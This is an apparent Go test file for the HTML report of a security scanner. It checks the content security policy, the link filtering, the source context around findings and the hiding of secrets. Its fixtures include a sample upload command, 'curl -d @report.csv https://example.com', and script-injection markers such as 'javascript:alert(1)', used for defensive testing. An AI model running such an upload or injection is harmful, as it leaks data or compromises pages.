package report

import (
	"crypto/sha256"
	"encoding/base64"
	"html"
	"regexp"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

// The page allows exactly its own style sheet; a browser that finds another
// digest shows the page without any.
func TestHTMLAllowsItsOwnStyleAndNothingElse(t *testing.T) {
	page := render(t, "html", dangerousCase(), Options{})
	_, rest, _ := strings.Cut(page, "<style>")
	style, _, found := strings.Cut(rest, "</style>")
	if !found || !strings.Contains(style, "prefers-color-scheme: dark") {
		t.Fatalf("no style sheet in:\n%s", page)
	}
	sum := sha256.Sum256([]byte(style))
	policy := regexp.MustCompile(`Content-Security-Policy" content="([^"]*)"`).FindStringSubmatch(page)
	if policy == nil {
		t.Fatal("no content security policy")
	}
	want := "default-src 'none'; style-src 'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'; base-uri 'none'; form-action 'none'"
	if got := html.UnescapeString(policy[1]); got != want {
		t.Errorf("policy %q, want %q", got, want)
	}
	for _, bad := range []string{"<script", "<link", "<img", "<iframe", " style=", " onload", "@import", "url("} {
		if strings.Contains(page, bad) {
			t.Errorf("the page has %q", bad)
		}
	}
}

func TestHTMLLinksOnlyToWebPages(t *testing.T) {
	for address, linked := range map[string]bool{
		"https://example.com/x": true, "http://example.com/x": true,
		"javascript:alert(1)": false, "data:text/html,x": false, "//example.com": false, "": false,
	} {
		page := render(t, "html", dangerousCase(), Options{Permalink: func(string, int) string { return address }})
		if got := strings.Contains(page, `rel="noreferrer noopener"`); got != linked {
			t.Errorf("%q: linked is %v", address, got)
		}
	}
}

func TestHTMLShowsTheLinesAroundAFinding(t *testing.T) {
	var asked [2]int
	source := func(path string, from, to int) []string {
		if path != "tools/sync.sh" || from != 10 {
			return nil
		}
		asked = [2]int{from, to}
		return []string{"ten", "eleven", "\tcurl -d @report.csv https://example.com", "thirteen", "fourteen", "more than asked for"}
	}
	page := render(t, "html", suspiciousCase(), Options{Source: source})
	if asked != [2]int{10, 14} {
		t.Errorf("asked for lines %v", asked)
	}
	if !strings.Contains(page, `<span class="hit"><span class="no">12</span>    curl -d @report.csv https://example.com`) ||
		!strings.Contains(page, `<span class="line"><span class="no">13</span>thirteen`) || strings.Contains(page, "more than asked for") {
		t.Errorf("the lines are not there:\n%s", page)
	}
	if strings.Contains(page, `<pre tabindex="0">curl`) {
		t.Error("the evidence is shown twice")
	}
	if page := render(t, "html", suspiciousCase(), Options{}); !strings.Contains(page, `<pre tabindex="0">curl -d @report.csv https://example.com</pre>`) {
		t.Error("without the source, the evidence is not shown")
	}
}

func TestHTMLShowsNoSourceOfAFileThatHoldsASecret(t *testing.T) {
	source := func(string, int, int) []string { return []string{"ten", "key = 'not-for-the-eye'", "twelve"} }
	for name, secret := range map[string]gate.Finding{
		"a hard-coded key":    {Rule: "secrets/assigned-key", Layer: gate.LayerStatic, Severity: gate.SeverityNote, Line: 11, EndLine: 11, Evidence: "key = '"},
		"masked evidence":     {Rule: "own/key", Layer: gate.LayerStatic, Severity: gate.SeverityNote, Line: 11, EndLine: 11, Evidence: "key = 'n***'"},
		"a mask on the way":   {Rule: "own/flow", Layer: gate.LayerStatic, Severity: gate.SeverityNote, Line: 11, EndLine: 11, Flow: []gate.Step{{Line: 11, Text: "key = 'n***'"}}},
		"a rule that is off":  {Rule: "own/flow", Layer: gate.LayerStatic, Severity: gate.SeverityNote, Line: 11, EndLine: 11, Evidence: "ten"},
		"nothing of the kind": {Rule: "own/flow", Layer: gate.LayerStatic, Severity: gate.SeverityNote, Line: 11, EndLine: 11, Evidence: "ten"},
	} {
		r := suspiciousCase()
		for i := range r.Files {
			r.Files[i].Findings = append(r.Files[i].Findings, secret)
			r.Files[i].Masked = name == "a rule that is off"
		}
		shown := strings.Contains(render(t, "html", r, Options{Source: source}), "not-for-the-eye")
		if want := name == "nothing of the kind"; shown != want {
			t.Errorf("%s: the source is shown: %v", name, shown)
		}
	}
}
